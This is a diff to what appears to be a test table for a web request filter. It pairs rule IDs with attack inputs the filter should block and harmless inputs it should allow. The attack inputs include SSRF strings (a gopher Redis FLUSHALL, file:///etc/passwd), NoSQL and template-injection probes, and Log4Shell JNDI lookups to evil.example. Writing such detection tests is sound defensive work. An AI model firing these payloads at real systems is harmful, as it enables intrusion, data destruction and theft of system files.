@@ -89,6 +89,8 @@ V = {
  "rp-graphql-003": ([gq("{ " + " ".join("a%d: user(id: %d) { id }" % (i, i) for i in range(20)) + " }")], [gq("{ me: user(id: 1) { id } them: user(id: 2) { id } }"), gq("query Q($id: ID!, $n: Int) { user(id: $id) { posts(first: $n) { title } } }")]),
  "rp-graphql-004": ([gq(" ".join("query q%d { me { id } }" % i for i in range(6)))], [gq("query A { me { id } } query B { you { id } }"), gq("mutation { addPost(title: \"query mutation query\") { id } }")]),
  "rp-ssrf-004": (["localhost/", "localtest.me/admin", "kubernetes.default.svc.cluster.local/", "host.docker.internal:2375/"], ["local host", "localhost is where I test", "example.com/internal", "internal"]),
+ "rp-ssrf-008": ([uri("/gopher://127.0.0.1:6379/_FLUSHALL"), uri("/dict%3A%2F%2F127.0.0.1%3A11211%2Fstats"), uri("//file:///etc/passwd")], [uri("/docs/gopher-protocol"), uri("/https://example.com/page"), uri("/redis/stats")]),
+ "rp-nosqli-003": ([hdr("X-Filter", "{\"$gt\": \"\"}"), uri("/users/%7B%22%24ne%22%3A1%7D"), hdr("X-Query", "name[$regex]=.*")], [hdr("X-Price", "$5 each"), uri("/api/v1/items/42"), hdr("Content-Type", "application/soap+xml; action=\"urn:x\"; charset=UTF-8")]),
  "rp-nosqli-002": (["{\"$where\": \"sleep(1000)\"}", "'; return true; var x='", "this.password.match(/.*/)", "', $where: '1 == 1'", "x', $or: [ {}, { 'a':'a", "';it=new Date();do{pt=new Date();}while(pt-it<5000);"], ["price $10", "where is my order", "costs $5: cheap", "john+order@x.com", "it's done; start the build"]),
  "rp-ssti-001": (["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}", "<%= 7*7 %>"], ["{{ name }}", "costs ${price}"]),
  "rp-jndi-001": (["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://x/y}", "${${::-j}${::-n}${::-d}${::-i}:dns://x}"], ["${HOME}", "jndi docs"]),
